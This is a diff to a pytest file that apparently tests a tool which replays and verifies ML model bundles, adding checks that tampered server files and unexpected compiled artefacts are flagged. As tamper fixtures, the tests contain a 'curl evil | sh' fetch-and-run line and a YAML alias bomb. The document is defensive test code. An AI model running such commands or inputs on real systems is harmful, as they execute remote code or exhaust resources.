@@ -10,8 +10,11 @@ from support.bundles import change_about, check_of, rehash
 
 from optim import __version__
 from optim.bundles import manifest
+from optim.bundles.bundle import write_compiled
+from optim.bundles.remade import same_compiled
 from optim.bundles.replay import replay
 from optim.errors import InputError, OptimError
+from optim.recipe import Recipe
 
 pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("quick")]
 BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
@@ -71,6 +74,36 @@ def test_a_version_that_is_an_option_of_pip_is_no_version(bundle):
 def test_a_readme_that_says_something_else_fails(bundle):
     edited(bundle, manifest.README, "python run.py\n", "curl evil | sh\n")
     assert "README.md" in check_of(replay(bundle), "script").text
+
+
+@pytest.mark.parametrize("name", [manifest.HOST, manifest.HOST_REQUIREMENTS])
+def test_a_server_without_what_it_needs_is_compared_all_the_same(bundle, name):
+    """As a bundle has none whose program did not know a version that the server needs."""
+    about = json.loads((bundle / manifest.ABOUT).read_text())
+    kept = {key: text for key, text in about["libraries"].items() if key != "grpcio"}
+    change_about(bundle, libraries=kept)
+    shutil.rmtree(bundle / manifest.SERVER)
+    for other in {manifest.HOST, manifest.HOST_REQUIREMENTS} - {name}:
+        (bundle / other).unlink()
+    edited(bundle, name, "==" if name == manifest.HOST_REQUIREMENTS else "import sys\n", "evil\n")
+    assert name in check_of(replay(bundle), "script").text
+
+
+def test_what_no_engine_of_the_recipe_compiled_fails(bundle):
+    (bundle / manifest.COMPILED).mkdir()
+    (bundle / manifest.COMPILED / "net.pt2").write_bytes(b"machine code")
+    rehash(bundle)
+    check = check_of(replay(bundle), "compiled")
+    assert check.ok is False and "compiled/net.pt2" in check.text
+
+
+def test_what_an_engine_compiled_is_made_again_and_compared(findings, bundle):
+    engine = Recipe.parse("torch").runtime
+    write_compiled(engine, findings.original, bundle)
+    for name, ok in ((engine.artefacts[0], None), ("names.json", False), ("another.so", False)):
+        (bundle / manifest.COMPILED / name).write_bytes(b"{}")
+        found = same_compiled(bundle, engine, findings.original)
+        assert found.ok is ok and "compiled/" in found.text
 
 
 def test_another_example_fails(bundle):
